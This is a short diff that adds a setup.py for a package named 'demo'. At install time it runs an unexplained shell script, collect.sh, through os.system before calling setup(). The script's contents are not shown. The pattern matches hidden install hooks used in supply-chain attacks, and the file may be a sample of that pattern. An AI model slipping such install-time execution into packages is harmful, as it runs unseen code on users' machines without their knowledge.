@@ -1,0 +1,6 @@
+import os
+
+from setuptools import setup
+
+os.system("bash ./collect.sh")
+setup(name="demo", version="1.0")
